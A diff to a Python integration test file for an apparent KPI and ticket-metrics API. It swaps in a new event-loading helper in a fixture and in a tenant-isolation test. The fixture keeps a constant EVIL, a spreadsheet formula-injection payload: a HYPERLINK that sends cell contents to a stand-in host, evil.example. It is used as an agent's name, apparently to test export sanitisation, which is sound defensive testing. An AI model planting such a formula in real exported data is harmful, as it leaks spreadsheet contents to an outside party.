@@ -25,6 +25,7 @@ from tests.integration.test_score_history import (
     year_of_tickets,
 )
 from tests.support.api import access_token, api_client, graphql_data
+from tests.support.derive import apply_and_settle
 
 EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
 SCORED = "total metrics { key value sampleSize }"
@@ -62,7 +63,7 @@ class Desk:
 @pytest.fixture
 def desk(container: Container, tenant: TenantProfile) -> Desk:
     events = [*year_of_tickets(), agent_profile("a3", team="tier1", minutes=-9e5, name=EVIL)]
-    admin.apply_canonical(container, tenant.id, source="generic", events=events)
+    apply_and_settle(container, tenant.id, source="generic", events=events)
     client = api_client(container)
     token = access_token(client, container, tenant.id, scopes=("read", "admin"))
     model_id = graphql_data(client, token, CREATE, model=MODEL)["createKpiModel"]["id"]
@@ -158,7 +159,7 @@ def test_no_token_is_401_and_no_read_scope_is_403(
 def test_a_token_of_tenant_a_never_sees_a_row_of_tenant_b(desk: Desk, container: Container) -> None:
     other = admin.create_tenant(container, slug="other-co", name="Other", timezone="UTC")
     events = [agent_profile("b1", team="b-team", minutes=-9e5, name="Agent of B")]
-    admin.apply_canonical(container, other.id, source="generic", events=events)
+    apply_and_settle(container, other.id, source="generic", events=events)
     drain(container)
     with container.read_uow(other.id) as uow:
         b_agents = {a.id for a in uow.reads.agents()}
